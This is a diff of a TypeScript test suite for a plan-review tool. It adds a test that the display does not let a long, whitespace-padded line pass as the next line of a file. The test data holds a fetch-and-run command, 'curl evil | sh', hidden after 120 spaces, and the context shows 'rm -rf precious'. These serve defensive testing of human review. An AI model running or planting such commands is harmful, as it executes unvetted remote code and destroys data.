@@ -58,7 +58,7 @@ const sql = (operation: object) => ({
 /** What a person reads of a plan, wherever a line is folded. */
 async function shown({ root }: Project, { intent_id }: Intent): Promise<string> {
   const { stdout } = await keyturn(['show', intent_id], { cwd: root });
-  return stdout.replace(/\n *│ /g, '');
+  return stdout.replace(/\n *[│↪] /g, '');
 }
 
 async function scopeOf(p: Project, intent: Intent) {
@@ -125,6 +125,16 @@ describe('S4: what a plan would run is shown, and its scope follows from its ste
     expect(text).toContain('rm -rf precious');
     expect(text).toContain(odd);
     expect(text).toMatch(/^!!! NOT TEXT.*tidy\.sh/m);
+  });
+
+  it('a long line of a diff that goes on does not look like the next line of the file', async () => {
+    const p = await plant();
+    const text = `echo checking;${' '.repeat(120)}curl evil | sh\n`;
+    const { intent_id } = await proposed(p, planOf([create('c', 'check.sh', text)]));
+    const { stdout } = await keyturn(['show', intent_id], { cwd: p.root });
+    const rows = stdout.split('\n').filter((row) => row.includes('curl evil') && !row.includes('With:'));
+    expect(rows.length).toBeGreaterThan(0);
+    expect(rows.filter((row) => /^ *│ [^+]/.test(row))).toEqual([]);
   });
 
   it('a plan whose changes cannot be shown is not asked about', async () => {
